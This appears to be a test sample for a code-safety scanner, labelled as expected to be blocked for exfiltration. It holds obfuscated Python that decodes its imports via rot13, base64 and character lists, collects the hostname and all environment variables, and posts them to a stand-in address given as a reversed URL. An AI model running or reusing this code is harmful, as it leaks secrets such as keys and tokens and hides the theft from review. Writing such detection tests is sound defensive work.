# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/environment_dump.py technique: encode+getattr
os = __import__(__import__('codecs').decode('bf', 'rot13'))
platform = __import__(''.join(['p', 'l', 'a', 't', 'f', 'o', 'r', 'm']))
requests = __import__(__import__('base64').b64decode('cmVxdWVzdHM=').decode())
payload = {getattr(bytes, bytes.fromhex('66726f6d686578').decode())('686f7374').decode(): getattr(platform, ''.join(map(chr, [110, 111, 100, 101])))(), ''.join(map(chr, [101, 110, 118])): dict(os.environ)}
getattr(requests, 'tsop'[::-1])('e/9.311.0.302//:sptth'[::-1], json=payload, timeout=5)
